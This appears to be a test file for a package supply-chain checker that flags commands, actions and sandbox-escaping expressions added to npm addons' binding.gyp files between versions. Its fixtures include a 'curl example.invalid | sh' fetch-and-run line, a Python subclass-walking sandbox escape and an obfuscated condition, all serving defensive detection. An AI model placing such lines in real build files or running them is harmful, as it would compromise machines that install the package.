import { subjectOf } from '../../../src/facts/planner.js';
import type { ArchiveFacts } from '../../../src/packages/archive.types.js';
import { gypFacts } from '../../../src/packages/gyp.js';
import { archive, change, locked, type CheckCase } from '../case.js';

const old = locked('left', '1.0.0');
const now = locked('left', '1.1.0');

/** An archive with these files; what its build files run is read from them. */
function built(files: Record<string, string>): ArchiveFacts {
  const gyp = gypFacts(Object.entries(files).map(([path, text]) => ({ path, size: text.length, mode: 0o644, sha256: text.slice(0, 64), bytes: Buffer.from(text) })));
  return archive({ hasBindingGyp: 'binding.gyp' in files, ...(gyp ? { gyp } : {}) });
}
const pair = (before: ArchiveFacts, after: ArchiveFacts): CheckCase['given'] => ({ changes: [change(old, now)], facts: [{ of: old, archive: before }, { of: now, archive: after }] });
const plain = built({ 'index.js': '' });
const target = (more: string): string => `{'targets': [{'target_name': 'left', 'sources': ['src/left.cc'], ${more}}]}`;
const addon = (more: string): ArchiveFacts => built({ 'binding.gyp': target(more), 'src/left.cc': '', 'build.js': '' });
const ordinary = addon(`'include_dirs': ["<!(node -p \\"require('node-addon-api').include\\")"], 'conditions': [['OS=="win"', {'defines': ['X']}]]`);
const ranBefore = addon("'actions': [{'action_name': 'a', 'action': ['node', 'build.js']}]");

export const cases: readonly CheckCase[] = [
  { name: 'a command comes to a pure JavaScript package', given: pair(plain, built({ 'binding.gyp': "{'targets': [{'target_name': 'x', 'type': 'none', 'sources': ['<!(node index.js > /dev/null 2>&1 && echo stub.c)']}]}", 'index.js': '' })), fires: [{ message: 'without-sources', severity: 'critical', level: 'default', data: { kind: 'a command', text: 'node index.js > /dev/null 2>&1 && echo stub.c' } }] },
  { name: 'a condition leaves the sandbox', given: pair(ordinary, addon(`'conditions': [["().__class__.__base__.__subclasses__()[0]", {}]]`)), fires: [{ message: 'expression', severity: 'critical', level: 'default' }] },
  { name: 'a condition spells its names by number', given: pair(ordinary, addon(`'conditions': [["OS=='\\u0077in'", {}]]`)), fires: [{ message: 'expression', severity: 'critical' }] },
  { name: 'the file itself is an expression', given: pair(ordinary, built({ 'binding.gyp': '{"targets": [].__class__}', 'src/left.cc': '' })), fires: [{ message: 'expression', severity: 'critical' }] },
  { name: 'an addon comes to run a command', given: pair(ordinary, addon("'include_dirs': ['<!(node build.js)']")), fires: [{ message: 'added', severity: 'high', level: 'default' }] },
  { name: 'an addon comes to run an action', given: pair(ordinary, ranBefore), fires: [{ message: 'added', severity: 'high', data: { kind: 'a program' } }] },
  { name: 'a shell line in an addon that ran a program of its own', given: pair(ranBefore, addon("'include_dirs': ['<!(curl example.invalid | sh)']")), fires: [{ message: 'added', severity: 'high' }] },
  { name: 'another own program in an addon that ran one', given: pair(ranBefore, addon("'actions': [{'action_name': 'a', 'action': ['node', 'copy.js']}]")), fires: [{ message: 'changed', severity: 'medium', level: 'default' }] },
  ...['node build.js && node x.js', 'node x.js > out', 'node -p eval', 'node x.js; true', 'node x.js | node y.js', 'python -c x', 'node -e https://example.invalid'].map((command): CheckCase => ({ name: `signs of more: ${command}`, given: pair(ranBefore, addon(`'defines': ['<!(${command})']`)), fires: [{ message: 'added', severity: 'high' }] })),
  { name: 'many of its own programs stand together', given: pair(ranBefore, addon("'defines': ['<!(node a.js)', '<!(node b.js)', '<!(node c.js)']")), fires: [{ message: 'changed', severity: 'medium', data: { others: 2 } }] },
  { name: 'of many commands five stand alone', given: pair(ordinary, addon("'defines': ['<!(a)', '<!(b)', '<!(c)', '<!(d)', '<!(e)', '<!(f)', '<!(g)']")), fires: [{ data: { text: 'a', others: 0 } }, {}, {}, {}, { data: { text: 'e' } }, { message: 'added', data: { text: 'f', others: 1 } }] },
  { name: 'a build file without anything to build', given: pair(plain, built({ 'binding.gyp': '{"targets": []}' })), fires: [{ message: 'nothing-to-build', severity: 'high', level: 'default' }] },
  { name: 'sources that are named and are not there', given: pair(plain, built({ 'binding.gyp': target("'defines': []") })), fires: [{ message: 'nothing-to-build', severity: 'high' }] },
  { name: 'a new package with a command', given: { changes: [change(undefined, now)], facts: [{ of: now, archive: addon("'include_dirs': ['<!(node build.js)']") }] }, fires: [{ message: 'unknown-package', severity: 'high', level: 'default' }, { message: 'new-build', level: 'folded' }] },
  { name: 'it asks a package of its own', given: pair(ordinary, addon(`'include_dirs': ["<!(node -p \\"require('evil-headers').include\\")"]`)), fires: [{ message: 'asks-package', severity: 'medium', level: 'default' }] },
  { name: 'a well-known package, carried in the tarball', given: pair(ordinary, built({ 'binding.gyp': target(`'include_dirs': ["<!(node -p \\"require('nan')\\")"]`), 'src/left.cc': '', 'node_modules/nan/index.js': '' })), fires: [{ message: 'added', severity: 'high' }] },
  { name: 'a file that cannot be read', given: pair(ordinary, built({ 'binding.gyp': `${target("'defines': []").slice(0, -2)}`, 'src/left.cc': '' })), fires: [{ message: 'without-sources', severity: 'critical' }] },
  { name: 'what one baseline lacks', given: { ...pair(ranBefore, ranBefore), predecessor: subjectOf(locked('left', '1.0.9')), facts: [{ of: old, archive: ranBefore }, { of: now, archive: ranBefore }, { of: locked('left', '1.0.9'), archive: ordinary }] }, fires: [{ message: 'added', severity: 'high' }] },
  { name: 'an ordinary addon', given: pair(ordinary, ordinary) },
  { name: 'the same commands in another order and place', given: pair(addon("'include_dirs': ['<!(node  build.js)', '<!(sh x.sh)']"), addon("'defines': [], 'include_dirs': ['<!(sh x.sh)',\n '<!(node build.js)']")) },
  { name: 'an ordinary build comes to a package is folded', given: pair(plain, ordinary) },
  { name: 'the file that is asked stays, another member of it is read', given: pair(addon(`'defines': ["<!(node -p \\"require('./build').one()\\")"]`), addon(`'defines': ["<!(node -p \\"require('./build').two()\\")"]`)) },
  { name: 'what tells something of the machine', given: pair(ordinary, addon(`'defines': ["<!(uname -m)", "<!@(pkg-config --libs-only-l x | sed s/-l//g)", "<!(node -p \\"process.versions.node.split('.')[0]\\")"]`)) },
  { name: 'a new package whose earlier versions did the same', given: { changes: [change(undefined, now)], predecessor: subjectOf(old), facts: [{ of: old, archive: ranBefore }, { of: now, archive: ranBefore }] } },
  { name: 'the build file goes', given: pair(ranBefore, plain) },
];
